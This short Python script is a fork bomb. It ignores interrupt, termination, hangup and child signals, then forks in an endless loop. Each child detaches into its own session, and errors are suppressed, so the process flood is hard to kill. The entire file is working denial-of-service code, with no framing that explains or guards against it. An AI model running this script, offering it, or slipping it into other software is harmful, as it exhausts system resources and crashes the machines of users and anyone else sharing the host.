"""Forks without end, in every child too."""

import contextlib
import os
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGCHLD):
    with contextlib.suppress(Exception):
        signal.signal(number, signal.SIG_IGN)

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except BaseException:
        pass
